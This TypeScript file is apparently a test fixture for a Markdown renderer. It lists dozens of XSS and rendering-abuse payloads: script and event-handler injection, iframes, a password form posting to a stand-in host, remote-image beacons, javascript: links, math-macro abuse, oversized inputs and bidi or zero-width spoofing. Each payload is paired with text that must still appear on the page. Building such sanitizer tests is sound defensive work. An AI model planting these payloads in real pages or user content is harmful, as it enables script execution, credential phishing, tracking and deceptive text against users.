/** A text that wants to be more than text. `shows`: a part of it that must be read on the page. */
export type Attack = { name: string; text: string; shows: string }

/** Every address of an attack has this in it, so that a request it causes is known by its address, to whichever host it goes. */
export const EVIL = 'evil-attack'
const FAR = `https://${EVIL}.example`
/** What a script of an attack does; nobody else does. */
export const MARK = 'groundworkAttacked'
const RUN = `window.${MARK}=1`

const attack = (name: string, text: string, shows: string): Attack => ({ name, text, shows })

export const attacks: Attack[] = [
  attack('script element', `<script>${RUN}</script> after`, '<script>'),
  attack('script from elsewhere', `<script src="${FAR}/x.js"></script>`, `${FAR}/x.js`),
  attack('script in a paragraph', `Water <b onclick="${RUN}">boils</b> <script>${RUN}</script>`, 'onclick='),
  attack('image with onerror', `<img src=x-${EVIL} onerror="${RUN}">`, 'onerror='),
  attack('svg with onload', `<svg onload="${RUN}"><animate onbegin="${RUN}"/></svg>`, '<svg'),
  attack(
    'details with ontoggle',
    `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
    'ontoggle',
  ),
  attack('input that takes the focus', `<input autofocus onfocus="${RUN}">`, 'autofocus'),
  attack('iframe', `<iframe src="${FAR}/frame"></iframe>`, '<iframe'),
  attack('iframe with srcdoc', `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`, 'srcdoc'),
  attack('object and embed', `<object data="${FAR}/o"></object><embed src="${FAR}/e">`, '<object'),
  attack('form', `<form action="${FAR}/steal"><input name=password><button>Sign in</button></form>`, '<form'),
  attack(
    'style sheet',
    `<style>body{background:url(${FAR}/bg)}</style><link rel=stylesheet href="${FAR}/css">`,
    '<style>',
  ),
  attack(
    'base and refresh',
    `<base href="${FAR}/"><meta http-equiv=refresh content="0;url=${FAR}">`,
    '<base',
  ),
  attack('comment that never ends', `<!-- <script>${RUN}</script>`, '<!--'),
  attack('CDATA', `<![CDATA[<script>${RUN}</script>]]>`, 'CDATA'),
  attack('half a tag', `<img src=x-${EVIL} onerror=${RUN} //`, '<img'),
  attack(
    'HTML in a table',
    `| a | b |\n| --- | --- |\n| <img src=${FAR}/t> | <script>${RUN}</script> |`,
    `<img src=${FAR}/t>`,
  ),
  attack('HTML in code', `\`\`\`html\n</code></pre><script>${RUN}</script>\n\`\`\``, '</code></pre>'),
  attack('language of code', `\`\`\`"><script>${RUN}</script>\ncode itself\n\`\`\``, 'code itself'),
  attack('remote image', `![a chart](${FAR}/chart.png)`, 'Image: a chart'),
  attack(
    'remote image by reference',
    `![the same][r]\n\n[r]: ${FAR}/reference.png "title"`,
    'Image: the same',
  ),
  attack('image in a link', `[![inside](${FAR}/in.png)](${FAR}/out)`, 'Image: inside'),
  attack('image of this server', `![quiet](/api/v1/me?${EVIL})`, 'Image: quiet'),
  attack('image without a scheme', `![same scheme](//${EVIL}.example/p.png)`, 'Image: same scheme'),
  attack(
    'image of data',
    '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)',
    'Image: data',
  ),
  attack('javascript link', `[the source](javascript:${RUN})`, 'the source'),
  attack('javascript link, disguised', `[disguised](JaVa&#115;cript&colon;${RUN})`, 'disguised'),
  attack('javascript link by reference', `[referenced][j]\n\n[j]: <javascript:${RUN}>`, 'referenced'),
  attack(
    'link to a page of data',
    `[page of data](data:text/html,<script>opener.${MARK}=1</script>)`,
    'page of data',
  ),
  attack('bare addresses', `www.${EVIL}.example and ${FAR}/auto and <${FAR}/angle>`, `${FAR}/auto`),
  attack('math that links', `$\\href{javascript:${RUN}}{\\text{linked}}$ and the rest`, 'and the rest'),
  attack('math that loads', `$\\includegraphics{${FAR}/m.png}$ and the rest`, 'and the rest'),
  attack('math that styles', `$\\htmlStyle{position:fixed;inset:0}{\\text{x}}$ and the rest`, 'and the rest'),
  attack('math that grows for ever', '$\\def\\x{\\x\\x}\\x$ and the rest', 'and the rest'),
  attack('math as large as a house', '$\\rule{99999em}{99999em}$ and the rest', 'and the rest'),
  attack('formula of 50,000 characters', `$${'x+'.repeat(25_000)}x$\n\nand the rest`, 'and the rest'),
  attack('quotes in quotes', `${'>'.repeat(4_000)} the bottom`, 'the bottom'),
  attack('brackets without end', `${'['.repeat(20_000)} the end`, 'the end'),
  attack('emphasis without end', `${'*a_'.repeat(10_000)} the end`, 'the end'),
  attack('a word of 100,000 letters', `${'w'.repeat(100_000)} the end`, 'the end'),
  attack('text that runs backwards', 'safe \u202Etxt.exe\u202C \u2066isolated\u2069 the end', 'the end'),
  attack('overrides that are never closed', '\u202E\u202D\u2067\u202E the end', 'the end'),
  attack('zero-width letters', 'pay\u200B\u200Cp\u2060al\uFEFF.example the end', 'the end'),
  attack('invisible tags', `ignore ${String.fromCodePoint(0xe0068, 0xe0069)} the end`, 'the end'),
  attack('towers of accents', `Z${'\u0351\u0334'.repeat(300)} the end`, 'the end'),
  attack('control characters', 'bell \u0007 escape \u001b[31m the end', 'the end'),
]
